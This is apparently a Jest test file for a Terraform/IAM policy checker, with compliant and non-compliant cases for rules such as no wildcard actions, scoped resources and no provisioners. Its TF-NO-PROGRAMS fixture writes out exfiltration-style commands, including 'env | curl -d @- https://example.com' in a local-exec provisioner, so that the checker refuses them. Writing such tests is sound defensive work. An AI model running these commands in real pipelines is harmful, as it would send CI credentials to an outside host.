// IAM and provider rules: each with compliant and non-compliant cases.
import { noAwsManagedPolicies } from '../../../src/policy/rules/iam/no-aws-managed-policies';
import { noUserPolicies } from '../../../src/policy/rules/iam/no-user-policies';
import { noWildcardActions } from '../../../src/policy/rules/iam/no-wildcard-actions';
import { providerNoCredentials } from '../../../src/policy/rules/iam/provider-no-credentials';
import { scopedResources } from '../../../src/policy/rules/iam/scoped-resources';
import { trustInAccount } from '../../../src/policy/rules/iam/trust-in-account';
import { trustSpecificPrincipals } from '../../../src/policy/rules/iam/trust-specific-principals';
import { iamRules } from '../../../src/policy/rules/iam';
import { noPrograms } from '../../../src/policy/rules/iam/no-programs';
import { EnvironmentJson } from '../../../src/policy/terraform-json';
import { envOf, verdict } from '../../helpers/policy';
import { environments } from '../../../src/config/environments';
import { synthEnvironment } from '../../helpers/synth';

const policy = (...Statement: Record<string, unknown>[]) => JSON.stringify({ Version: '2012-10-17', Statement });
const trust = (...Statement: Record<string, unknown>[]) => ({ assume_role_policy: policy(...Statement) });

describe('iamRules', () => {
  it('holds every IAM rule once, each with a title and public IDs', () => {
    expect(iamRules.map((r) => r.id)).toEqual([
      'IAM-NO-WILDCARD-ACTIONS',
      'IAM-SCOPED-RESOURCES',
      'IAM-NO-AWS-MANAGED-POLICIES',
      'IAM-TRUST-SPECIFIC-PRINCIPALS',
      'IAM-TRUST-IN-ACCOUNT',
      'IAM-NO-USER-POLICIES',
      'PROVIDER-NO-CREDENTIALS',
      'TF-NO-PROGRAMS',
    ]);
    // TF-NO-PROGRAMS and IAM-TRUST-IN-ACCOUNT are the project's own: no public rule set checks them.
    const own = ['TF-NO-PROGRAMS', 'IAM-TRUST-IN-ACCOUNT'];
    for (const rule of iamRules.filter((r) => !own.includes(r.id)))
      expect(Object.values(rule.publicIds).flat().length).toBeGreaterThan(0);
  });
});

describe('IAM-NO-WILDCARD-ACTIONS', () => {
  it('passes named actions (string or list), a Deny with "*", and references inside string values', () => {
    const env = envOf({
      'aws_iam_role_policy.string': {
        policy: policy({ Effect: 'Allow', Action: 's3:GetObject', Resource: '${aws_s3_bucket.b.arn}/*' }),
      },
      'aws_iam_policy.list': {
        policy: policy(
          { Sid: 'Read', Effect: 'Allow', Action: ['s3:GetObject', 's3:Get*'], Resource: ['arn:aws:s3:::b/*'] },
          { Effect: 'Deny', Action: '*', Resource: '*' },
        ),
      },
    });
    expect(verdict(noWildcardActions, env, 'aws_iam_role_policy.string')).toBeUndefined();
    expect(verdict(noWildcardActions, env, 'aws_iam_policy.list')).toBeUndefined();
  });

  it('fails Action "*" as a string, "s3:*" in a list, a single Statement object, and Allow with NotAction', () => {
    const env = envOf({
      'aws_iam_role_policy.star': { policy: policy({ Effect: 'Allow', Action: '*', Resource: '*' }) },
      'aws_iam_user_policy.service': {
        policy: policy({ Sid: 'All', Effect: 'Allow', Action: ['s3:GetObject', 's3:*'], Resource: 'arn:aws:s3:::b' }),
      },
      'aws_iam_group_policy.single': { policy: JSON.stringify({ Statement: { Action: 'iam:*', Resource: '*' } }) },
      'aws_iam_policy.not': { policy: policy({ Effect: 'Allow', NotAction: 'iam:*', Resource: '*' }) },
    });
    expect(verdict(noWildcardActions, env, 'aws_iam_role_policy.star')).toMatch(/statement 1 allows Action "\*".*Fix:/);
    expect(verdict(noWildcardActions, env, 'aws_iam_user_policy.service')).toMatch(
      /statement "All" allows Action "s3:\*"\. Fix:/,
    );
    expect(verdict(noWildcardActions, env, 'aws_iam_group_policy.single')).toMatch(/"iam:\*".*Fix:/); // no Effect: Allow
    expect(verdict(noWildcardActions, env, 'aws_iam_policy.not')).toMatch(/every action but its NotAction.*Fix:/);
  });

  it('fails a policy it cannot read rather than passing it unseen', () => {
    const env = envOf({ 'aws_iam_policy.doc': { policy: '${data.aws_iam_policy_document.x.json}' } });
    expect(verdict(noWildcardActions, env, 'aws_iam_policy.doc')).toMatch(/not literal JSON.*Fix:/);
  });
});

describe('IAM-SCOPED-RESOURCES', () => {
  it('passes named resources, Resource "*" narrowed by a Condition, and a Deny on "*"', () => {
    const env = envOf({
      'aws_iam_role_policy.named': {
        policy: policy({
          Effect: 'Allow',
          Action: ['logs:PutLogEvents'],
          Resource: ['${aws_cloudwatch_log_group.g.arn}:*'],
        }),
      },
      'aws_iam_role_policy.conditioned': {
        policy: policy(
          {
            Effect: 'Allow',
            Action: 'ec2:StartInstances',
            Resource: '*',
            Condition: { StringEquals: { 'aws:ResourceTag/App': 'api' } },
          },
          { Effect: 'Deny', Action: 's3:*', Resource: '*' },
        ),
      },
    });
    expect(verdict(scopedResources, env, 'aws_iam_role_policy.named')).toBeUndefined();
    expect(verdict(scopedResources, env, 'aws_iam_role_policy.conditioned')).toBeUndefined();
  });

  it('fails Resource "*" without a Condition (string or list), naming the actions, with no built-in exception', () => {
    const env = envOf({
      'aws_iam_role_policy.ecr': {
        policy: policy({ Sid: 'LogInToEcr', Effect: 'Allow', Action: ['ecr:GetAuthorizationToken'], Resource: ['*'] }),
      },
      'aws_iam_policy.string': {
        policy: policy({ Effect: 'Allow', Action: 's3:GetObject', Resource: '*', Condition: {} }),
      },
      'aws_iam_policy.not': {
        policy: policy({ Effect: 'Allow', Action: 's3:GetObject', NotResource: 'arn:aws:s3:::secret/*' }),
      },
    });
    expect(verdict(scopedResources, env, 'aws_iam_role_policy.ecr')).toMatch(
      /"LogInToEcr" allows ecr:GetAuthorizationToken on Resource "\*".*Fix:/,
    );
    expect(verdict(scopedResources, env, 'aws_iam_policy.string')).toMatch(
      /allows s3:GetObject on Resource "\*", with no Condition\. Fix:/,
    );
    expect(verdict(scopedResources, env, 'aws_iam_policy.not')).toMatch(/every resource but its NotResource.*Fix:/);
  });
});

describe('IAM-NO-AWS-MANAGED-POLICIES', () => {
  it('passes customer managed policies, by ARN or by reference', () => {
    const env = envOf({
      'aws_iam_role_policy_attachment.own': { role: 'r', policy_arn: '${aws_iam_policy.p.arn}' },
      'aws_iam_user_policy_attachment.own': { user: 'u', policy_arn: 'arn:aws:iam::123456789012:policy/mine' },
      'aws_iam_role.r': { assume_role_policy: '{}', managed_policy_arns: ['arn:aws:iam::123456789012:policy/mine'] },
    });
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_role_policy_attachment.own')).toBeUndefined();
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_user_policy_attachment.own')).toBeUndefined();
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_role.r')).toBeUndefined();
  });

  it('fails an AWS managed policy attached or listed in managed_policy_arns, in any partition', () => {
    const env = envOf({
      'aws_iam_role_policy_attachment.ssm': {
        role: 'r',
        policy_arn: 'arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore',
      },
      'aws_iam_group_policy_attachment.cn': {
        group: 'g',
        policy_arn: 'arn:aws-cn:iam::aws:policy/service-role/AmazonRDSEnhancedMonitoringRole',
      },
      'aws_iam_role.r': {
        assume_role_policy: '{}',
        managed_policy_arns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
      },
    });
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_role_policy_attachment.ssm')).toMatch(
      /AmazonSSMManagedInstanceCore \(policy_arn\).*Fix:/,
    );
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_group_policy_attachment.cn')).toMatch(
      /service-role\/AmazonRDSEnhancedMonitoringRole.*Fix:/,
    );
    expect(verdict(noAwsManagedPolicies, env, 'aws_iam_role.r')).toMatch(
      /AdministratorAccess \(managed_policy_arns\).*Fix: replace it in managed_policy_arns/,
    );
  });
});

describe('IAM-TRUST-SPECIFIC-PRINCIPALS', () => {
  it('passes a service principal, a named role, a Deny on "*", and a whole account with sts:ExternalId', () => {
    const env = envOf({
      'aws_iam_role.service': trust({
        Effect: 'Allow',
        Principal: { Service: 'ec2.amazonaws.com' },
        Action: 'sts:AssumeRole',
      }),
      'aws_iam_role.named': trust(
        { Effect: 'Allow', Principal: { AWS: ['arn:aws:iam::123456789012:role/deployer'] }, Action: 'sts:AssumeRole' },
        { Effect: 'Deny', Principal: '*', Action: 'sts:AssumeRole' },
      ),
      'aws_iam_role.vendor': trust({
        Effect: 'Allow',
        Principal: { AWS: 'arn:aws:iam::210987654321:root' },
        Action: ['sts:AssumeRole'],
        Condition: { StringEquals: { 'sts:ExternalId': 'abc' } },
      }),
    });
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.service')).toBeUndefined();
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.named')).toBeUndefined();
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.vendor')).toBeUndefined();
  });

  it('fails Principal "*", {"AWS": "*"} (also in a list), and a whole account without sts:ExternalId', () => {
    const env = envOf({
      'aws_iam_role.anyone': trust({ Effect: 'Allow', Principal: '*', Action: 'sts:AssumeRole' }),
      'aws_iam_role.aws': trust({ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole' }),
      'aws_iam_role.list': trust({
        Sid: 'Open',
        Effect: 'Allow',
        Principal: { AWS: ['arn:aws:iam::123456789012:role/x', '*'] },
        Action: 'sts:AssumeRole',
      }),
      'aws_iam_role.account': trust({ Effect: 'Allow', Principal: { AWS: '123456789012' }, Action: 'sts:AssumeRole' }),
      'aws_iam_role.root': trust({
        Effect: 'Allow',
        Principal: { AWS: 'arn:aws:iam::123456789012:root' },
        Action: 'sts:AssumeRole',
      }),
    });
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.anyone')).toMatch(/Principal "\*" \(anyone\).*Fix:/);
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.aws')).toMatch(/\{"AWS": "\*"\}.*Fix:/);
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.list')).toMatch(
      /statement "Open" trusts Principal \{"AWS": "\*"\}.*Fix:/,
    );
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.account')).toMatch(
      /whole account 123456789012 without an sts:ExternalId.*Fix:/,
    );
    expect(verdict(trustSpecificPrincipals, env, 'aws_iam_role.root')).toMatch(
      /whole account arn:aws:iam::123456789012:root.*Fix:/,
    );
  });
});

describe('IAM-TRUST-IN-ACCOUNT', () => {
  it("passes AWS services, the stack's own roles and identity providers, and ARNs of the caller's account", () => {
    const env = envOf({
      'aws_iam_role.service': trust({
        Effect: 'Allow',
        Principal: { Service: 'ec2.amazonaws.com' },
        Action: 'sts:AssumeRole',
      }),
      'aws_iam_role.oidc': trust({
        Effect: 'Allow',
        Principal: { Federated: '${aws_iam_openid_connect_provider.GitHub.arn}' },
        Action: 'sts:AssumeRoleWithWebIdentity',
      }),
      'aws_iam_role.own': trust(
        {
          Effect: 'Allow',
          Principal: {
            AWS: ['${aws_iam_role.other.arn}', 'arn:aws:iam::${data.aws_caller_identity.Account.account_id}:role/x'],
          },
          Action: 'sts:AssumeRole',
        },
        { Effect: 'Deny', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'sts:AssumeRole' },
      ),
    });
    for (const address of ['aws_iam_role.service', 'aws_iam_role.oidc', 'aws_iam_role.own'])
      expect(verdict(trustInAccount, env, address)).toBeUndefined();
  });

  it('fails a literal account (even with sts:ExternalId), a role of another account and a foreign identity provider', () => {
    const env = envOf({
      'aws_iam_role.vendor': trust({
        Effect: 'Allow',
        Principal: { AWS: 'arn:aws:iam::210987654321:root' },
        Action: 'sts:AssumeRole',
        Condition: { StringEquals: { 'sts:ExternalId': 'abc' } },
      }),
      'aws_iam_role.role': trust({
        Effect: 'Allow',
        Principal: { AWS: ['arn:aws:iam::123456789012:role/x'] },
        Action: 'sts:AssumeRole',
      }),
      'aws_iam_role.idp': trust({
        Effect: 'Allow',
        Principal: { Federated: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com' },
        Action: 'sts:AssumeRoleWithWebIdentity',
      }),
    });
    expect(verdict(trustInAccount, env, 'aws_iam_role.vendor')).toMatch(
      /trusts "arn:aws:iam::210987654321:root".*Fix:/,
    );
    expect(verdict(trustInAccount, env, 'aws_iam_role.role')).toMatch(/role\/x.*not a principal of this environment/);
    expect(verdict(trustInAccount, env, 'aws_iam_role.idp')).toMatch(/oidc-provider/);
  });

  it.each(Object.keys(environments))('holds for every role of the %s environment', (name) => {
    const env = synthEnvironment(name);
    const roles = env.resources.filter((r) => r.type === 'aws_iam_role');
    expect(roles.length).toBeGreaterThan(3);
    for (const role of roles) expect(trustInAccount.check(role, { env })).toBeUndefined();
  });
});

describe('IAM-NO-USER-POLICIES', () => {
  it('passes a policy attachment to groups and roles only', () => {
    const env = envOf({
      'aws_iam_policy_attachment.a': {
        name: 'a',
        policy_arn: 'arn:aws:iam::123456789012:policy/p',
        groups: ['ops'],
        roles: ['r'],
      },
    });
    expect(verdict(noUserPolicies, env, 'aws_iam_policy_attachment.a')).toBeUndefined();
  });

  it('fails an inline user policy, a user policy attachment, and a policy attachment with users', () => {
    const env = envOf({
      'aws_iam_user_policy.inline': {
        user: 'alice',
        policy: policy({ Effect: 'Allow', Action: 's3:GetObject', Resource: 'arn:aws:s3:::b/*' }),
      },
      'aws_iam_user_policy_attachment.attached': {
        user: '${aws_iam_user.alice.name}',
        policy_arn: 'arn:aws:iam::123456789012:policy/p',
      },
      'aws_iam_policy_attachment.users': {
        name: 'a',
        policy_arn: 'arn:aws:iam::123456789012:policy/p',
        users: ['alice'],
      },
    });
    expect(verdict(noUserPolicies, env, 'aws_iam_user_policy.inline')).toMatch(
      /embeds a policy in IAM user alice.*Fix:/,
    );
    expect(verdict(noUserPolicies, env, 'aws_iam_user_policy_attachment.attached')).toMatch(
      /to IAM user \$\{aws_iam_user\.alice\.name\}.*Fix:/,
    );
    expect(verdict(noUserPolicies, env, 'aws_iam_policy_attachment.users')).toMatch(/users = alice.*Fix:/);
  });
});

describe('PROVIDER-NO-CREDENTIALS', () => {
  it('passes a provider with no credentials, or credentials from expressions', () => {
    const env = envOf({
      'provider.aws': { region: 'ap-northeast-2' },
      'other:provider.aws': {
        region: 'ap-northeast-2',
        access_key: '${var.access_key}',
        secret_key: '${var.secret_key}',
      },
    });
    expect(verdict(providerNoCredentials, env, 'provider.aws')).toBeUndefined();
    expect(verdict(providerNoCredentials, env, 'other:provider.aws')).toBeUndefined();
  });

  it('fails literal access_key, secret_key and token without repeating their values', () => {
    const env = envOf({
      'provider.aws': {
        region: 'ap-northeast-2',
        access_key: 'AKIAIOSFODNN7EXAMPLE',
        secret_key: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
        token: 't',
      },
    });
    const message = verdict(providerNoCredentials, env, 'provider.aws');
    expect(message).toMatch(/sets access_key, secret_key, token as literal values.*Fix:/);
    expect(message).not.toContain('AKIAIOSFODNN7EXAMPLE');
  });
});

describe('TF-NO-PROGRAMS', () => {
  const env = new EnvironmentJson({
    test: {
      data: {
        external: { version: { program: ['sh', '-c', 'curl -d @- https://example.com'] } },
        http: { ip: { url: 'https://checkip.amazonaws.com' } },
        aws_ami: { image: { most_recent: true } },
      },
      resource: {
        terraform_data: {
          hook: { provisioner: [{ 'local-exec': { command: 'env | curl -d @- https://example.com' } }] },
        },
        aws_instance: { web: { ami: 'ami-1', provisioner: [{ 'remote-exec': { inline: ['id'] } }] } },
        aws_vpc: { main: { cidr_block: '10.0.0.0/16' } },
      },
    },
  });
  const programs = env.resources.filter((r) => noPrograms.appliesTo.includes(r.type));

  it('finds every external or http data source and every provisioner, and nothing else', () => {
    expect(programs.map((r) => r.address).sort()).toEqual([
      'aws_instance.web.provisioner.remote-exec',
      'data.external.version',
      'data.http.ip',
      'terraform_data.hook.provisioner.local-exec',
    ]);
  });

  it.each([
    ['data.external.version', /is a external data source, which runs a program .* Fix: do it with a resource/],
    ['data.http.ip', /is a http data source/],
    [
      'terraform_data.hook.provisioner.local-exec',
      /is a local-exec provisioner, which runs commands at apply, with the CI role's AWS credentials/,
    ],
    ['aws_instance.web.provisioner.remote-exec', /is a remote-exec provisioner/],
  ])('refuses %s', (address, message) => {
    expect(verdict(noPrograms, env, address)).toMatch(message);
  });

  it('passes the shipped stacks: none of them runs a program', () => {
    const dev = synthEnvironment('dev');
    expect(dev.resources.filter((r) => noPrograms.appliesTo.includes(r.type))).toEqual([]);
    expect(dev.resources.length).toBeGreaterThan(50);
  });
});
